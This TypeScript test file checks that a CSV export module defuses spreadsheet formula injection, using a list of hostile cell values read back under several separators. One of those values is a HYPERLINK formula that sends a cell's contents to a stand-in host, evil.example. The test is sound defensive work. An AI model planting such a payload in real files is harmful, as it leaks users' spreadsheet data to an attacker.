// The export file formats on their own: RFC 4180 quoting (every text field quoted), the formula
// guard on text only, exact amounts from minor units, and JSON lines with every value a string or null.
import { describe, expect, it } from "vitest";
import { column } from "../../lib/exports/columns.ts";
import { csvRecord, plainField, textField } from "../../lib/exports/csv.ts";
import { FILE_FORMATS } from "../../lib/exports/formats.ts";

type Row = { text: string | null; amount: bigint; at: Date; count: number };
const columns = [
  column<Row>("text", "text", "", (r) => r.text),
  column<Row>("amount", "amount", "", (r) => r.amount),
  column<Row>("at", "time", "", (r) => r.at),
  column<Row>("count", "integer", "", (r) => r.count),
];
const at = new Date("2026-11-25T08:00:00.5Z");

describe("CSV", () => {
  it("quotes every text field, doubling its quotes, and our own fields only when they must be", () => {
    expect(csvRecord([textField("plain"), textField('say "hi"'), textField("a,b"), textField("")])).toBe(
      '"plain","say ""hi""","a,b",""\r\n',
    );
    expect(csvRecord([plainField("12.50"), plainField("2026-11-25T08:00:00.500Z"), plainField(null)])).toBe(
      "12.50,2026-11-25T08:00:00.500Z,\r\n",
    );
    expect(plainField("two\nlines")).toBe('"two\nlines"');
  });

  it("defuses text that a spreadsheet would run as a formula, at its start and after a separator inside", () => {
    for (const text of ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", '"=1']) {
      expect(textField(text)).toBe(`"'${text.replaceAll('"', '""')}"`);
    }
    for (const text of ["1=1", "a-b", "", "'quoted", "a; =1", "e-mail@example.com"]) {
      expect(textField(text)).toBe(`"${text}"`);
    }
    expect(textField("a;=1+1;b")).toBe(`"a;'=1+1;b"`);
    expect(textField('x;"=1+1";y')).toBe(`"x;'""=1+1"";y"`);
    expect(textField("a,-1\n@x\t+y\r=z")).toBe(`"a,'-1\n'@x\t'+y\r'=z"`);
    expect(textField("a;\t=1")).toBe(`"a;'\t'=1"`);
  });

  // The second outside probe: a title `a;=1+1;b` gave a cell `=1+1` in a spreadsheet that splits
  // on `;` (Excel in Danish or German). Read back the ways spreadsheets read a .csv, no cell starts
  // with a formula character, whatever the text.
  it("gives no reader a cell that starts a formula, whichever separator it splits on, and whether it follows the quotes or not", () => {
    const hostile = [
      "a;=1+1;b",
      'x;"=1+1";y',
      'a;""=1',
      "a,=1+1",
      "a\t@SUM(A1)",
      "two\n=lines",
      "cr\r+here",
      ';;-2+3;"',
      '"=1"',
      '=HYPERLINK("https://evil.example/?"&A1;"x")',
      "a;\t=1",
    ];
    for (const title of hostile) {
      const file =
        FILE_FORMATS.csv.header(columns as never) +
        FILE_FORMATS.csv.row(columns, { text: title, amount: -150n, at, count: 3 });
      for (const separator of [",", ";", "\t"]) {
        for (const cell of [...cellsFollowingQuotes(file, separator), ...cellsIgnoringQuotes(file, separator)]) {
          expect(cell, `${JSON.stringify(title)} split on ${JSON.stringify(separator)}`).not.toMatch(
            /^[=+@\t\r]|^-(?!1\.50$)/,
          );
        }
      }
    }
  });

  it("writes amounts exactly, negative ones with their minus, and guards only text columns", () => {
    const row = (amount: bigint, text: string | null = "-x") =>
      FILE_FORMATS.csv.row(columns, { text, amount, at, count: 3 });
    expect(row(-150n)).toBe(`"'-x",-1.50,2026-11-25T08:00:00.500Z,3\r\n`);
    expect(row(5n, null)).toBe(",0.05,2026-11-25T08:00:00.500Z,3\r\n");
    expect(row(900719925474099312n)).toBe(`"'-x",9007199254740993.12,2026-11-25T08:00:00.500Z,3\r\n`);
    expect(FILE_FORMATS.csv.header(columns as never)).toBe('"text","amount","at","count"\r\n');
  });
});

/**
 * Cells as a spreadsheet reads a .csv with `separator`: a cell that begins with a quote is quoted
 * (doubled quotes inside, separators and line breaks kept) up to its closing quote, and whatever
 * follows that up to the next separator is taken as it is.
 */
function cellsFollowingQuotes(file: string, separator: string): string[] {
  const cells: string[] = [];
  let i = 0;
  while (i < file.length) {
    let cell = "";
    if (file[i] === '"') {
      for (i++; i < file.length; i++) {
        if (file[i] !== '"') cell += file[i];
        else if (file[i + 1] === '"') cell += file[++i];
        else break;
      }
      i++;
    }
    while (i < file.length && file[i] !== separator && file[i] !== "\n") cell += file[i++];
    cells.push(cell.replace(/\r$/, ""));
    i++;
  }
  return cells;
}

/** Cells as a reader that lost track of the quotes sees them: every separator and line break splits, quotes at a cell's start dropped. */
function cellsIgnoringQuotes(file: string, separator: string): string[] {
  return file.split(new RegExp(`[${separator}\r\n]`)).map((cell) => cell.replace(/^"+/, ""));
}

describe("JSON lines", () => {
  it("is one object per line, every value a string or null, and no header", () => {
    expect(FILE_FORMATS.jsonl.header(columns as never)).toBe("");
    const line = FILE_FORMATS.jsonl.row(columns, { text: "=1+1\n", amount: -1n, at, count: 0 });
    expect(line.endsWith("\n") && !line.slice(0, -1).includes("\n")).toBe(true);
    expect(JSON.parse(line)).toEqual({ text: "=1+1\n", amount: "-0.01", at: "2026-11-25T08:00:00.500Z", count: "0" });
  });
});
